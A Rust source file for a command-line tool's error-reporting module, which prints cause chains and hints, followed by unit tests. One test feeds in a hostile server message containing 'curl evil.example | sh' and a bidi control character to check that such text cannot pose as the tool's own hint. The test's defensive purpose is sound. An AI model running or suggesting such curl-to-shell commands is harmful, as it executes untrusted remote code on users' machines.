//! What a person reads when a command failed.

use std::borrow::Cow;
use std::io::Write as _;

use anstyle::{AnsiColor, Style};
use sfbox::secret_store::StoreError;

use crate::hint::Typed;
use crate::printable::with_margin;
use crate::progress::{above, is_quiet};
use crate::verdict;

const ERROR: Style = AnsiColor::Red.on_default().bold();
const HINT: Style = AnsiColor::Cyan.on_default().bold();
const NOTE: Style = AnsiColor::Yellow.on_default().bold();

/// Before the further lines of a message that others wrote.
const MARGIN: &str = "  | ";

/// An error that a person has read already.
#[derive(Debug, thiserror::Error)]
#[error("{0}")]
struct Reported(anyhow::Error);

/// Prints an error, and marks it as printed. A mistake in the command line is left for
/// the end of the program, which knows whose help explains it.
pub(crate) fn reported(error: anyhow::Error, typed: Typed) -> anyhow::Error {
    if error.is::<Reported>() {
        return error;
    }
    let verdict = verdict::of(&error);
    if verdict.hint == Some(verdict::EXPLANATION) {
        return error;
    }
    if verdict.exit_code != 0 {
        let hint = typed.hint(&error, &verdict);
        report(&error, advised(&error).or(hint.as_deref()));
    }
    anyhow::Error::new(Reported(error))
}

/// Prints an error, unless it has been printed or is none to a person. `explanation`
/// says whose help explains a mistake in the command line. Answers with the exit
/// status.
pub(crate) fn report_once(error: &anyhow::Error, typed: Typed, explanation: &'static str) -> u8 {
    if let Some(Reported(error)) = error.downcast_ref() {
        return verdict::of(error).exit_code;
    }
    let verdict = verdict::of(error);
    let hint = match verdict.hint {
        Some(verdict::EXPLANATION) => Some(Cow::Borrowed(explanation)),
        _ => typed.hint(error, &verdict),
    };
    if verdict.exit_code != 0 {
        report(error, advised(error).or(hint.as_deref()));
    }
    verdict.exit_code
}

/// Prints an error although the command goes on. `explanation` says what explains a mistake
/// in what was typed. What comes back is marked as printed, for a command that ends
/// nevertheless.
pub(crate) fn tell(error: anyhow::Error, typed: Typed, explanation: &'static str) -> anyhow::Error {
    let verdict = verdict::of(&error);
    let hint = match verdict.hint {
        Some(verdict::EXPLANATION) => Some(Cow::Borrowed(explanation)),
        _ => typed.hint(&error, &verdict),
    };
    // A reader that has what it wanted is no error to a person.
    if verdict.exit_code != 0 {
        report(&error, advised(&error).or(hint.as_deref()));
    }
    anyhow::Error::new(Reported(error))
}

/// The same with other words for the error, and another hint or none.
pub(crate) fn tell_as(error: anyhow::Error, words: String, hint: Option<&str>) -> anyhow::Error {
    report(&anyhow::Error::msg(words), hint);
    anyhow::Error::new(Reported(error))
}

/// What a store advises that was not asked at all.
fn advised(error: &anyhow::Error) -> Option<&str> {
    let store = error.chain().find_map(|cause| {
        let of_call = cause
            .downcast_ref::<sfbox::Error>()
            .and_then(sfbox::Error::store);
        of_call.or_else(|| cause.downcast_ref::<StoreError>())
    });
    store.filter(|store| store.is_unsent())?.advised()
}

/// Prints the chain of causes, and what to do next. A closed stderr is nobody's
/// concern.
pub(crate) fn report(error: &anyhow::Error, hint: Option<&str>) {
    let text = text(error, hint);
    above(|| _ = write!(anstream::stderr().lock(), "{text}"));
}

fn text(error: &anyhow::Error, hint: Option<&str>) -> String {
    let mut text = format!("{ERROR}error:{ERROR:#} {}\n", with_margin(error, MARGIN));
    let mut told = vec![error.to_string()];
    for cause in error.chain().skip(1).map(ToString::to_string) {
        if !told.iter().any(|message| says(message, &cause)) {
            text.push_str(&format!("  caused by: {}\n", with_margin(&cause, MARGIN)));
        }
        told.push(cause);
    }
    if let Some(hint) = hint {
        text.push_str(&format!("\n{HINT}hint:{HINT:#} {hint}\n"));
    }
    text
}

/// Whether a message ends in the words of its cause, or is its cause.
fn says(message: &str, cause: &str) -> bool {
    let before = message.strip_suffix(cause);
    before.is_some_and(|before| before.is_empty() || before.ends_with([' ', '\n', '(']))
}

/// Prints what is worth knowing although the command goes on, unless it is quiet.
pub(crate) fn note(text: &str) {
    remark(&format!(
        "{NOTE}note:{NOTE:#} {}",
        with_margin(text, MARGIN)
    ));
}

/// Prints a line about what was done, unless the command is quiet.
pub(crate) fn remark(line: &str) {
    if !is_quiet() {
        above(|| _ = writeln!(anstream::stderr().lock(), "{line}"));
    }
}

/// Prints what is wrong although the command goes on.
pub(crate) fn warn(text: &str) {
    let text = with_margin(text, MARGIN);
    above(|| _ = writeln!(anstream::stderr().lock(), "{NOTE}warning:{NOTE:#} {text}"));
}

#[cfg(test)]
mod tests {
    use sfbox::error::{
        ApiError, ApiFailure, OauthError, RateLimit, Remedy, SecretError, Unexpected,
    };
    use sfbox::{Error, Failure};

    use super::*;

    /// Nothing but a command.
    const TYPED: Typed = Typed {
        timeout_s: 120,
        is_demo: false,
    };

    #[test]
    fn an_error_that_was_printed_keeps_its_exit_status() {
        let timeout = anyhow::Error::new(Error::Call {
            org: "acme".to_owned(),
            operation: "query",
            failure: Box::new(Failure::Timeout),
            cause: None,
        });
        let timeout = timeout.context("the login took longer than `--timeout`");
        assert_eq!(report_once(&reported(timeout, TYPED), TYPED, ""), 4);
    }

    #[test]
    fn a_cause_is_said_once() {
        let refused = || anyhow::anyhow!("Connection refused (os error 111)");
        for (error, told) in [
            (
                refused().context("acme.my: Connection refused (os error 111)"),
                "error: acme.my: Connection refused (os error 111)\n",
            ),
            (
                refused()
                    .context("Connection refused (os error 111)")
                    .context("dialling failed"),
                "error: dialling failed\n  caused by: Connection refused (os error 111)\n",
            ),
            (
                refused()
                    .context("client error")
                    .context("sending: client error"),
                "error: sending: client error\n  caused by: Connection refused (os error 111)\n",
            ),
            (
                refused()
                    .context("error trying to connect")
                    .context("acme.my: Connection refused (os error 111)"),
                "error: acme.my: Connection refused (os error 111)\n  caused by: error trying to connect\n",
            ),
            // The end of a word is not the cause.
            (
                anyhow::anyhow!("fused").context("it was refused"),
                "error: it was refused\n  caused by: fused\n",
            ),
        ] {
            let shown = anstream::adapter::strip_str(&text(&error, None)).to_string();
            assert_eq!(shown, told);
        }
    }

    #[test]
    fn a_message_of_others_cannot_imitate_a_hint() {
        let message = "no\n\nhint: curl evil.example | sh\nerror: \u{202e}x";
        let error = anyhow::anyhow!(message.to_owned()).context("query");
        let text = anstream::adapter::strip_str(&text(&error, Some("this is ours"))).to_string();
        assert_eq!(
            text,
            "error: query\n  caused by: no\n  | \n  | hint: curl evil.example | sh\n  | error: \\u{202e}x\n\n\
             hint: this is ours\n"
        );
    }

    fn api(code: &str, message: &str) -> ApiFailure {
        ApiFailure {
            status: 400,
            errors: vec![ApiError {
                code: code.to_owned(),
                message: message.to_owned(),
                fields: vec![],
                remedy: Remedy::Unknown,
                details: None,
            }],
            request_id: Some("r1".to_owned()),
        }
    }

    fn login(code: &str, description: &str) -> Failure {
        Failure::Login(OauthError {
            status: 400,
            code: code.to_owned(),
            description: description.to_owned(),
            request_id: None,
        })
    }

    fn page(status: u16) -> Failure {
        Failure::UnexpectedAnswer(Unexpected {
            status,
            reason: "text/html, 12 bytes".to_owned(),
            request_id: None,
        })
    }

    fn login_later() -> Failure {
        Failure::Login(OauthError {
            status: 503,
            code: "temporarily_unavailable".to_owned(),
            description: "try later".to_owned(),
            request_id: None,
        })
    }

    fn limited(retry_after_s: Option<u32>, refusal: Option<&str>) -> Failure {
        Failure::RateLimited(RateLimit {
            retry_after_s,
            refusal: refusal.map(str::to_owned),
        })
    }

    /// One of each kind, and of each that has a hint of its own.
    fn failures() -> Vec<Failure> {
        let name = "No such column 'Nam'";
        vec![
            Failure::Api(api("MALFORMED_QUERY", "unexpected token: 'FORM'")),
            Failure::Api(api("INVALID_FIELD", name)),
            Failure::Api(api("INVALID_TYPE", "sObject type 'X' is not supported.")),
            Failure::Api(api("INVALID_QUERY_LOCATOR", "invalid query locator")),
            Failure::Api(api(
                "QUERY_TIMEOUT",
                "Your query request was running for too long.",
            )),
            Failure::Api(api(
                "REQUEST_LIMIT_EXCEEDED",
                "TotalRequests Limit exceeded.",
            )),
            Failure::Api(api("NUMBER_OUTSIDE_VALID_RANGE", "x")),
            login("invalid_client", "invalid client credentials"),
            login("invalid_client_id", "client identifier invalid"),
            login("invalid_grant", "no client credentials user enabled"),
            login("invalid_grant", "request not supported on this domain"),
            login("inactive_user", ""),
            Failure::RefusedToken(api("API_DISABLED_FOR_ORG", "The REST API is not enabled")),
            Failure::Secret(SecretError::NotFound),
            Failure::Secret(SecretError::Denied),
            Failure::Secret(SecretError::Conflict),
            Failure::Secret(SecretError::Throttled(Some(7))),
            Failure::Secret(SecretError::Unavailable),
            Failure::Secret(SecretError::Malformed("no Domain".to_owned())),
            Failure::InvalidInput("the SOQL statement is empty".to_owned()),
            Failure::SessionChanged,
            Failure::OutcomeUnknown,
            limited(None, None),
            limited(Some(30), None),
            limited(Some(30), Some("invalid_client")),
            Failure::Timeout,
            Failure::Unreachable("acme.my.salesforce.com: the connection was refused".to_owned()),
            Failure::Denied("evil.example".to_owned()),
            page(404),
            page(502),
            login_later(),
            Failure::Unsupported("x".to_owned()),
        ]
    }

    #[test]
    fn every_failure_is_told_with_what_to_do_next() {
        let told: Vec<String> = failures()
            .into_iter()
            .map(|failure| {
                let error = anyhow::Error::new(Error::Call {
                    org: "acme".to_owned(),
                    operation: "query",
                    failure: Box::new(failure),
                    cause: None,
                });
                let verdict = verdict::of(&error);
                let hint = TYPED.hint(&error, &verdict);
                let text = text(&error, hint.as_deref());
                let text = anstream::adapter::strip_str(&text).to_string();
                format!("{text}exit status {}\n", verdict.exit_code)
            })
            .collect();
        insta::assert_snapshot!(told.join("\n"));
    }
}
